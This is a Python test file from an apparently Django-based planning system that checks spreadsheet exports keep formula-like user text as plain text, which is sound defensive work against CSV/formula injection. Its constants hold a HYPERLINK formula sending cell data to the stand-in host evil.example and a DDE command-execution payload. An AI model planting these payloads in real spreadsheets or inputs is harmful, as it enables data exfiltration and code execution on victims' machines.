"""User text that looks like a formula comes back from every export as the same text, never a formula."""

import io

import openpyxl
from django.test import Client

from plans.excel import xlsx_from_rows
from plans.models import Department
from tasks import actions
from tasks.breakdown import COLUMNS
from tests.security.leak_world import LeakWorld

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"


def cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_not_formula(data: bytes, *texts: str) -> None:
    found = {cell.value: cell for cell in cells(data) if cell.value in texts}
    assert set(found) == set(texts), "the text is kept exactly"
    assert all(cell.data_type == "s" for cell in found.values())
    assert not [cell.coordinate for cell in cells(data) if cell.data_type == "f"]


def test_a_narrative_a_yearly_target_and_a_department_name_are_text_in_the_exports(db, settings, tmp_path):
    """A HYPERLINK narrative in the 任务台账, a DDE 年度目标 imported back, and a department named '=…' stay text."""
    settings.MEDIA_ROOT = tmp_path
    world = LeakWorld()
    staff, head, sup = world.users["staff"], world.users["head"], world.users["sup"]
    report = actions.report_save(
        actor=staff,
        task=world.task,
        period=world.plan.periods.get(year=2025, index=4),
        data={"narrative": HYPERLINK},
        version=None,
    )
    actions.report_submit(actor=staff, report=report)
    actions.report_accept(actor=sup, report=actions.report_confirm(actor=head, report=report))
    # The 任务分解表 comes back from a department with a formula typed into the 年度目标 cell.
    table = xlsx_from_rows(
        COLUMNS,
        [["(一)", "推进复议体制改革", "区市场监管局", "区民政局", "", DDE]],
        sheet_title="表",
        title="任务分解表",
    )
    result = actions.breakdown_import(actor=sup, plan=world.plan, data=table, filename="任务分解表.xlsx")
    assert result.ok, result.errors
    Department.objects.filter(pk=world.support.pk).update(name="=1+2")
    world.task.refresh_from_db()
    assert world.task.yearly_target == DDE

    client = Client()
    client.force_login(sup)
    ledger = client.get(f"/plans/{world.plan.pk}/tasks/ledger.xlsx").getvalue()
    breakdown = client.get(f"/plans/{world.plan.pk}/tasks/export.xlsx").getvalue()
    assert_text_not_formula(breakdown, DDE, "=1+2")
    assert_text_not_formula(ledger, HYPERLINK, "=1+2")
    admin = Client()
    admin.force_login(world.users["admin"])
    exported = admin.post(
        "/admin/plans/department/export/",
        {
            "format": "0",
            "resource": "0",
            **{
                f"departmentresource_{f}": "on"
                for f in ("name", "short_name", "aliases", "kind", "emails", "is_active")
            },
        },
    )
    assert exported.status_code == 200, exported.content[:500]
    assert_text_not_formula(exported.content, "=1+2")
